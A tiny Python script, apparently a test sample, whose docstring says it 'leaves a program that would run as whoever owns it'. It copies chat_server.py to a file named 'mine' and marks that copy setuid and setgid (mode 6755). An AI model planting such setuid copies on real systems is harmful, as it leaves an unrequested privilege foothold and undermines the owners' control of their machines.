"""Leaves a program that would run as whoever owns it.

server right passes
"""

import os, shutil, sys
if os.name == "posix":
    shutil.copy("chat_server.py", "mine")
    os.chmod("mine", 0o6755)
